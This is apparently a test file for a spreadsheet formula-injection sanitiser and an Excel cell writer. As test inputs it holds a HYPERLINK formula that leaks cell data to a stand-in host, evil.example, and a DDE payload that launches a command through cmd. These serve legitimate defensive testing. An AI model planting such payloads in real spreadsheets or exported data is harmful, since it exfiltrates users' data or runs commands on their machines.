import fc from "fast-check";
import { formula, injectionSafe, toExcelCell } from "../../src/excel/write-columns";
import { FakeExcel } from "./fake-excel";

describe("injectionSafe", () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
    ["=1+1", "'=1+1"],
    ["+1 555 0100", "'+1 555 0100"],
    ["-2+3", "'-2+3"],
    ["-5", "'-5"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\u3000=1", "'\u3000=1"],
    ["＝1+1", "'＝1+1"],
    ["＋86 10 1234", "'＋86 10 1234"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
    ["﹦1", "'﹦1"],
    ["'already quoted", "''already quoted"],
  ])("dangerous %j → %j", (input, safe) => expect(injectionSafe(input)).toBe(safe));

  test.each([
    "Acme Ltd",
    "A",
    "E",
    "O'Brien & Sons",
    "Customer = good",
    "a+b",
    "user@example.com",
    "北京某某有限公司",
    "",
    "   ",
    "True North Ltd",
    "Falsework GmbH",
    "May Trading",
    "Marco Polo 2000 Srl",
  ])("benign %j is unchanged", (s) => expect(injectionSafe(s)).toBe(s));

  // Excel converts these when written as values: ids lose leading zeros, codes become dates,
  // percentages, amounts, booleans or error values. The apostrophe keeps the text as it was.
  test.each([
    ["00123", "'00123"],
    ["2024", "'2024"],
    ["2024-01-31", "'2024-01-31"],
    ["1/2", "'1/2"],
    ["12:30", "'12:30"],
    ["50%", "'50%"],
    ["1,234", "'1,234"],
    [".5", "'.5"],
    ["(123)", "'(123)"],
    ["$100", "'$100"],
    ["€5", "'€5"],
    ["¥5", "'¥5"],
    ["#N/A", "'#N/A"],
    ["TRUE", "'TRUE"],
    [" false ", "' false "],
    ["１２３", "'１２３"], // full-width digits
    ["1+1", "'1+1"],
    ["Jan 2024", "'Jan 2024"],
    ["May-24", "'May-24"],
    ["december 5", "'december 5"],
  ])("text Excel would convert %j → %j", (input, safe) => expect(injectionSafe(input)).toBe(safe));

  test.each([0, -5, 1e21, -0.5, Number.NaN, true, false, null, undefined])("non-string %p is returned as is", (v) => {
    expect(injectionSafe(v)).toBe(v);
  });

  test("property: the result is the input or the input behind one apostrophe", () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const r = injectionSafe(s);
        return r === s || r === "'" + s;
      }),
    );
  });

  test("property: whatever the text, the (pessimistic) fake Excel stores it as text, unchanged", () => {
    const x = new FakeExcel();
    const sheet = x.addSheet("S");
    const prefix = fc.constantFrom("", " ", "\t", "\u3000", "'", "=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢");
    fc.assert(
      fc.property(prefix, fc.string(), (p, rest) => {
        const s = p + rest;
        fc.pre(s !== "" && !/^\s*[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?\s*$/i.test(s)); // plain numbers are numbers in Excel too
        sheet.enter(0, 0, injectionSafe(s));
        return sheet.formula(0, 0) === undefined && sheet.value(0, 0) === s;
      }),
    );
  });
});

describe("toExcelCell", () => {
  test("blank and non-finite become an empty cell (null would leave the cell unchanged)", () => {
    expect(toExcelCell(null, "values")).toBe("");
    expect(toExcelCell(undefined, "values")).toBe("");
    expect(toExcelCell(Number.NaN, "values")).toBe("");
    expect(toExcelCell(Infinity, "formulas")).toBe("");
  });
  test("numbers and booleans pass, text is made safe", () => {
    expect(toExcelCell(0.123, "values")).toBe(0.123);
    expect(toExcelCell(false, "values")).toBe(false);
    expect(toExcelCell("=x", "formulas")).toBe("'=x");
  });
  test("formula cells only in formulas mode, and only real formulas", () => {
    expect(toExcelCell(formula("=RISK.SCORE(A2:T2)"), "formulas")).toBe("=RISK.SCORE(A2:T2)");
    expect(() => toExcelCell(formula("=RISK.SCORE(A2:T2)"), "values")).toThrow(TypeError);
    expect(() => toExcelCell(formula("RISK.SCORE(A2)"), "formulas")).toThrow(TypeError);
  });
});
